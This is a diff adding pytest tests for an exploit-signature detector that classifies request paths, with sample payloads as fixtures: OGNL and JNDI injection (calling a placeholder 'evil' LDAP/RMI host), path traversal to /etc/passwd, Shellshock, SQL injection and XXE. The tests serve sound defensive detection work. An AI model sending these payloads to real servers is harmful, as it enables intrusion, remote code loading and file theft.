@@ -1,6 +1,8 @@
 """Tests for the intel substrates: directory, blocklist, exploit-db, portscan."""
 
+import dataclasses
 import random
+import re
 
 import pytest
 
@@ -11,7 +13,12 @@ from repro.intel import (
     check_payload,
     scan_observers,
 )
-from repro.intel.exploitdb import ENUMERATION_PATHS, matching_signature
+from repro.intel.exploitdb import (
+    ENUMERATION_PATHS,
+    SIGNATURES,
+    Signature,
+    matching_signature,
+)
 from repro.intel.portscan import summarize_ports
 from repro.net.path import Hop
 
@@ -107,6 +114,46 @@ class TestExploitDb:
     def test_exploit_in_body(self):
         assert check_payload("/submit", b"<!ENTITY xxe SYSTEM 'file:///'>") is \
             PayloadVerdict.EXPLOIT
+
+    def test_compiled_signatures_match_as_re_search(self):
+        """Each signature's compiled pattern gives ``re.search``'s verdict
+        on the pattern string, on every enumeration path, one string per
+        signature and a benign path."""
+        def searched(path):
+            haystack = path + " "
+            if any(re.search(signature.pattern, haystack, flags=re.IGNORECASE)
+                   for signature in SIGNATURES):
+                return PayloadVerdict.EXPLOIT
+            return (PayloadVerdict.ENUMERATION if path not in ("", "/")
+                    else PayloadVerdict.BENIGN)
+
+        exploits = {
+            "EDB-44245": "/index.action?x=%{(#_='ognl')}",
+            "EDB-50383": "/cgi-bin/.%2e/.%2e/etc/passwd",
+            "EDB-49757": "/?q=${JNDI:ldap://evil/a}",
+            "EDB-41962": "/cgi-bin/status () { :; }; echo",
+            "EDB-47297": "/vendor/phpunit/Util/PHP/EVAL-STDIN.PHP",
+            "EDB-51118": "/item?id=1 OR 1=1--",
+            "EDB-45010": "/upload?doc=<!ENTITY xxe SYSTEM 'file:///'>",
+        }
+        assert set(exploits) == {signature.identifier
+                                 for signature in SIGNATURES}
+        for signature in SIGNATURES:
+            assert signature.matches(exploits[signature.identifier])
+        for path in ENUMERATION_PATHS + tuple(exploits.values()) + ("/",):
+            assert check_payload(path) is searched(path)
+
+    def test_signature_keeps_its_fields(self):
+        signature = SIGNATURES[0]
+        signature.matches("/")
+        assert [field.name for field in dataclasses.fields(signature)] == [
+            "identifier", "description", "pattern"]
+        assert signature == Signature(signature.identifier,
+                                      signature.description, signature.pattern)
+        assert repr(signature) == (
+            f"Signature(identifier={signature.identifier!r}, "
+            f"description={signature.description!r}, "
+            f"pattern={signature.pattern!r})")
 
     def test_matching_signature_returns_identifier(self):
         signature = matching_signature("/?x=${jndi:rmi://evil}")
